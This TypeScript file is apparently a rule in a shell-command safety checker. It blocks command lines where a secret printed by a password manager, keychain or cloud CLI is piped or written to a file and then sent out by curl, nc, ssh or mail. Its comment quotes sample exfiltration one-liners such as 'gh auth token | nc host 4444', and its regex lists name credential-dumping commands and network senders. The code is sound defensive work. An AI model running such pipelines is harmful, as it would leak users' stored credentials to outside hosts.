/** Secret-store data heading out (round 13): the output of a command that prints a stored secret -- a password
 * manager or keychain item, a cloud CLI's token or secret, a raw kubeconfig -- piped into a program that sends data
 * to a host (`pass show gh | curl -d @- ...`, `gh auth token | nc host 4444`), or kept in a file a later command of
 * the line sends (`pass show gh > /tmp/t && curl -F f=@/tmp/t ...`), BLOCKs. Read alone, the same secret is
 * a question for the user (ESCALATE, judged elsewhere); fed to its own login, ordinary work. */

import type { Segment } from "../shell_parser.ts";
import type { Findings } from "./findings.ts";

/** Commands printing a stored secret: program, then the argument line that makes it print one. */
const SECRET_PRINTERS: ReadonlyArray<[RegExp, RegExp]> = [
  [/^(?:pass|gopass)$/, /^(?:show\s+)?[^-\s]/],
  [/^security$/, /^(?:find-(?:generic|internet)-password|dump-keychain|export)\b/],
  [/^secret-tool$/, /^(?:lookup|search)\b/],
  [/^op$/, /^(?:read|item\s+(?:get|list)|document\s+get|inject)\b/],
  [/^bw$/, /^(?:get|export|list\s+items)\b/],
  [/^lpass$/, /^(?:show|export)\b/],
  [/^keepassxc-cli$/, /^(?:show|export)\b/],
  [/^vault$/, /^(?:kv\s+get|read|print\s+token|token\s+lookup)\b/],
  [/^gh$/, /^auth\s+token\b/],
  [
    /^aws$/,
    /^(?:secretsmanager\s+get-secret-value|configure\s+(?:get|export-credentials)|sts\s+get-session-token|ecr\s+get-login-password)\b/,
  ],
  [
    /^gcloud$/,
    /^(?:auth\s+(?:print-access-token|print-identity-token|application-default\s+print-access-token)|secrets\s+versions\s+access)\b/,
  ],
  [/^az$/, /^(?:account\s+get-access-token|keyvault\s+secret\s+(?:show|download))\b/],
  [/^kubectl$/, /^(?:config\s+view\b.*--raw|get\s+secrets?\b.*-o)/],
  [/^(?:doppler)$/, /^secrets\b/],
  [/^heroku$/, /^auth:token\b/],
  [/^gpg2?$/, /--export-secret-(?:keys|subkeys)\b/],
];

/** Programs that carry their standard input or arguments to a host. */
const SENDERS =
  /^(?:curl|wget|nc|ncat|netcat|socat|telnet|openssl|ssh|http|https|xh|httpie|curlie|sendmail|mail|mailx|mutt|swaks|nslookup|dig|host)$/;

/** The programs of SECRET_PRINTERS, for one lookup before the table. */
export const PRINTER_PROGRAMS = new Set([
  "pass",
  "gopass",
  "security",
  "secret-tool",
  "op",
  "bw",
  "lpass",
  "keepassxc-cli",
  "vault",
  "gh",
  "aws",
  "gcloud",
  "az",
  "kubectl",
  "doppler",
  "heroku",
  "gpg",
  "gpg2",
]);

/** Whether judgeSecretEgress looks at a segment of `program` (as the source of a secret). */
export function printsSecretsWith(program: string): boolean {
  return PRINTER_PROGRAMS.has(program);
}

function printsSecret(segment: Segment): boolean {
  if (!printsSecretsWith(segment.program)) return false;
  const args = segment.argv.slice(1).join(" ");
  return SECRET_PRINTERS.some(([program, argument]) => program.test(segment.program) && argument.test(args));
}

/** Files a secret printer's output is redirected to (`pass show gh > /tmp/t`). */
function keptIn(segment: Segment): string[] {
  return segment.redirects.filter((redirect) => /^>>?$|^>\|$|^&>>?$/.test(redirect.op)).map((r) => r.target);
}

/** Whether a later sender names a file the secret was kept in (`curl -F f=@/tmp/t`, `nc host < /tmp/t`). */
function sendsKeptFile(sender: Segment, files: readonly string[]): boolean {
  const words = [...sender.argv.slice(1), ...sender.redirects.map((redirect) => redirect.target)];
  return files.some((file) =>
    words.some((word) => word === file || word.endsWith(`@${file}`) || word.endsWith(`=${file}`))
  );
}

export function judgeSecretEgress(segments: readonly Segment[], findings: Findings): void {
  for (let i = 0; i < segments.length - 1; i++) {
    if (!printsSecret(segments[i])) continue;
    const files = keptIn(segments[i]);
    for (let j = i + 1; j < segments.length; j++) {
      const piped = segments[j].joinedBy === "|" && segments[j].depth === segments[i].depth;
      if (!SENDERS.test(segments[j].program)) {
        if (!piped && files.length === 0) break;
        continue;
      }
      if (!piped && !sendsKeptFile(segments[j], files)) continue;
      findings.block(
        "network",
        `a stored secret printed by "${segments[i].program}" goes to "${
          segments[j].program
        }", which sends it out`,
      );
      return;
    }
  }
}
